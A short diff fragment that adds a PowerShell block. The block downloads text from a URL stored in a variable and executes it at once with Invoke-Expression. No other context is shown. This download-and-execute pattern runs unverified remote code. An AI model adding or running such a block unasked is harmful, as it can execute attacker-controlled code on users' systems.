@@ -1,0 +1,4 @@
+& {
+    $text = Invoke-WebRequest -UseBasicParsing $u
+    Invoke-Expression $text.Content
+}
